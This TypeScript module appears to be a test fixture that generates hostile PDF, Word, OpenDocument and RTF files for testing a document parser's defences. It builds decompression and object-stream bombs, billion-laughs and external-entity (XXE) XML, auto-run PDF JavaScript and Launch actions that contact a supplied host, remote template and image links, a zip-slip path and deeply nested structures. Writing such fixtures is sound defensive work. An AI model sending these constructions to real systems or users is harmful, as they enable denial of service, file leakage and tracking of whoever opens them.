import { createDeflate, deflateSync } from 'node:zlib'
import { zipSync } from 'fflate'

/** Files as an attacker would make them: small, and meant to do harm to whoever opens them. None holds anything harmful itself. */
export interface HostileFile {
  readonly name: string
  readonly bytes: Buffer
}

const GIGABYTE = 2 ** 30
export const SENTENCE = 'Frau Ina Lenz arbeitete stets sorgfaeltig und zuverlaessig.'

/** Packs a gigabyte of spaces, once. */
async function packedSpaces(): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 })
  const chunks: Buffer[] = []
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk))
  const spaces = Buffer.alloc(2 ** 20, ' ')
  for (let written = 0; written < GIGABYTE; written += spaces.length)
    if (!deflate.write(spaces)) await new Promise((drained) => deflate.once('drain', drained))
  await new Promise((ended) => deflate.end(() => ended(undefined)))
  return Buffer.concat(chunks)
}

type PdfObject = string | Buffer

const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')])

/** Objects numbered from 1, the first is the catalogue; `xrefAt` names another place of the table than the true one. */
function pdf(objects: readonly PdfObject[], xrefAt?: number): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let length = parts[0]?.length ?? 0
  const add = (part: PdfObject) => {
    parts.push(Buffer.from(part))
    length += Buffer.byteLength(part)
  }
  for (const [index, object] of objects.entries()) {
    offsets.push(length)
    add(`${index + 1} 0 obj\n`)
    add(object)
    add('\nendobj\n')
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const start = xrefAt ?? length
  add(
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
  )
  return Buffer.concat(parts)
}

const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R ${more} >>`
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const content = stream('', Buffer.from(`BT /F 12 Tf 50 700 Td (${SENTENCE}) Tj ET`))

/** PDFs; `host` is a server that notes whether anybody asks it. */
export async function hostilePdfs(host: string): Promise<HostileFile[]> {
  const script = `<< /S /JavaScript /JS (app.launchURL\\("${host}/js"\\); this.submitForm\\("${host}/form"\\)) >>`
  const acting = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>`
  const embedded = `<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>`
  const link = `/AA << /O << /S /URI /URI (${host}/uri) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (${host}/launch) >> >>]`
  const spaces = await packedSpaces()
  const bomb = stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(spaces, { level: 9 }))
  const many = Array.from({ length: 10_000 }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>')
  const catalogue = '<< /Type /Catalog /Pages 2 0 R >>'
  return [
    { name: 'acting.pdf', bytes: pdf([acting, pages, page(link), content, font, embedded, stream('', Buffer.from('MZ'))]) },
    { name: 'broken-table.pdf', bytes: pdf([catalogue, pages, page(), content, font], 7) },
    { name: 'circular.pdf', bytes: pdf([catalogue, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>']) },
    { name: 'billion-pages.pdf', bytes: pdf([catalogue, '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>', page(), content, font]) },
    {
      name: 'ten-thousand-pages.pdf',
      bytes: pdf([catalogue, `<< /Type /Pages /Kids [${many.map((_, at) => `${at + 3} 0 R`).join(' ')}] /Count 10000 >>`, ...many]),
    },
    { name: 'bomb.pdf', bytes: pdf([catalogue, pages, page(), bomb, font]) },
    { name: 'object-bomb.pdf', bytes: objectBomb(spaces) },
  ]
}

/** The page's resources lie in an object stream that unpacks to a gigabyte; such objects are named by a cross-reference stream. */
function objectBomb(spaces: Buffer): Buffer {
  const packed = stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(spaces, { level: 9 }))
  const objects: PdfObject[] = ['<< /Type /Catalog /Pages 2 0 R >>', pages, page().replace(/\/Resources << .*? >> >>/, '/Resources 5 0 R'), content]
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const rows: Buffer[] = [Buffer.from([0, 0, 0, 0, 0, 0, 0])]
  const lengthOf = () => parts.reduce((sum, { length }) => sum + length, 0)
  const row = (kind: number, place: number) => {
    const entry = Buffer.alloc(7)
    entry.writeUInt8(kind, 0)
    entry.writeUInt32BE(place, 1)
    rows.push(entry)
  }
  const add = (number: number, object: PdfObject) =>
    parts.push(Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]))
  for (const [index, object] of objects.entries()) {
    row(1, lengthOf())
    add(index + 1, object)
  }
  row(2, 6)
  row(1, lengthOf())
  add(6, packed)
  const start = lengthOf()
  row(1, start)
  add(7, stream('/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R', Buffer.concat(rows)))
  parts.push(Buffer.from(`startxref\n${start}\n%%EOF\n`))
  return Buffer.concat(parts)
}

const text = (words: string) => new TextEncoder().encode(words)
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const document = (body: string, before = '') => `<?xml version="1.0"?>${before}<w:document xmlns:w="${word}"><w:body>${body}</w:body></w:document>`
const paragraph = `<w:p><w:r><w:t>${SENTENCE}</w:t></w:r></w:p>`
const relationships = (...all: readonly string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`
const typed = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

function docx(parts: Readonly<Record<string, string | Uint8Array>>): Buffer {
  const whole = {
    '[Content_Types].xml': typed,
    '_rels/.rels': relationships(`<Relationship Id="r" Type="${office}/officeDocument" Target="word/document.xml"/>`),
    'word/document.xml': document(paragraph),
    ...parts,
  }
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(whole).map(([name, part]) => [name, typeof part === 'string' ? text(part) : part]))))
}

/** The unpacked sizes that a zip announces, changed to a lie. */
function understated(zip: Buffer): Buffer {
  const bytes = Buffer.from(zip)
  for (let at = bytes.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1'))
    bytes.writeUInt32LE(10, at + 24)
  return bytes
}

/** Word files; `host` as above. */
export function hostileDocuments(host: string): HostileFile[] {
  const external = (kind: string) =>
    relationships(`<Relationship Id="x" Type="${office}/${kind}" Target="${host}/${kind}" TargetMode="&#69;xternal"/>`)
  const laughs = Array.from({ length: 20 }, (_, at) => `<!ENTITY e${at + 1} "&e${at};&e${at};&e${at};&e${at};">`).join('')
  const nested = (depth: number): Buffer => docx(depth > 0 ? { 'word/embeddings/a.docx': nested(depth - 1) } : {})
  const bomb = docx({ 'word/document.xml': document(paragraph + ' '.repeat(2 ** 27)) })
  return [
    { name: 'template.docx', bytes: docx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }) },
    { name: 'picture.docx', bytes: docx({ 'word/_rels/document.xml.rels': external('image') }) },
    { name: 'link.docx', bytes: docx({ 'word/_rels/document.xml.rels': external('hyperlink') }) },
    {
      name: 'entity.docx',
      bytes: docx({ 'word/document.xml': document(`<w:p><w:r><w:t>&x;</w:t></w:r></w:p>`, `<!DOCTYPE d [<!ENTITY x SYSTEM "${host}/entity">]>`) }),
    },
    { name: 'laughs.docx', bytes: docx({ 'word/document.xml': document(`<w:p>&e20;</w:p>`, `<!DOCTYPE d [<!ENTITY e0 "ha">${laughs}]>`) }) },
    { name: 'bomb.docx', bytes: bomb },
    { name: 'understated.docx', bytes: understated(bomb) },
    { name: 'deep.docx', bytes: docx({ 'word/document.xml': document('<w:p>'.repeat(200_000) + '</w:p>'.repeat(200_000)) }) },
    { name: 'nested.docx', bytes: nested(20) },
    { name: 'macros.docx', bytes: docx({ 'word/vbaProject.bin': 'MZ' }) },
    { name: 'outside.docx', bytes: docx({ '../../outside.txt': 'x' }) },
    { name: 'many.docx', bytes: docx(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`word/media/${at}`, '']))) },
  ]
}

const inOdf = (name: string) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name === 'draw' ? 'drawing' : name}:1.0"`
const openText = (body: string, before = '') =>
  `<?xml version="1.0"?>${before}<office:document-content ${['office', 'text', 'draw'].map(inOdf).join(' ')} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>${body}</office:text></office:body></office:document-content>`
const odt = (xml: string): Buffer => Buffer.from(zipSync({ 'META-INF/manifest.xml': text('<manifest/>'), 'content.xml': text(xml) }))

/** Texts of LibreOffice; `host` as above. */
export function hostileOpenDocuments(host: string): HostileFile[] {
  const laughs = Array.from({ length: 20 }, (_, at) => `<!ENTITY e${at + 1} "&e${at};&e${at};&e${at};&e${at};">`).join('')
  const image = `<draw:frame><draw:image xlink:href="${host}/image" xlink:actuate="onLoad"/></draw:frame>`
  return [
    { name: 'laughs.odt', bytes: odt(openText('<text:p>&e20;</text:p>', `<!DOCTYPE d [<!ENTITY e0 "ha">${laughs}]>`)) },
    { name: 'bomb.odt', bytes: odt(openText(`<text:p>${SENTENCE}</text:p>${' '.repeat(2 ** 27)}`)) },
    { name: 'blanks.odt', bytes: odt(openText(`<text:p>${SENTENCE}<text:s text:c="1000000000"/></text:p>`)) },
    { name: 'linked.odt', bytes: odt(openText(`<text:p>${image}${SENTENCE}</text:p>`)) },
  ]
}

/** RTF files; `host` as above. */
export function hostileRtf(host: string): HostileFile[] {
  const rtf = (body: string) => Buffer.from(`{\\rtf1\\ansi ${body}`, 'latin1')
  const depth = 1_000_000
  const linked = `{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}}{\\field{\\*\\fldinst INCLUDEPICTURE "${host}/picture"}{\\fldrslt }}{\\*\\template ${host}/template}`
  return [
    { name: 'deep.rtf', bytes: rtf('{'.repeat(depth)) },
    { name: 'deep-and-whole.rtf', bytes: rtf(`${'{'.repeat(depth)}${SENTENCE}${'}'.repeat(depth)}}`) },
    { name: 'binary.rtf', bytes: rtf(`{\\pict\\bin2147483647 ${SENTENCE}}}`) },
    { name: 'numbers.rtf', bytes: rtf(`\\uc-1\\u99999999999999999999 \\f-9\\ansicpg9999999999 \\u- \\'zz ${SENTENCE}}`) },
    { name: 'objects.rtf', bytes: rtf(`${linked}${SENTENCE}}`) },
  ]
}
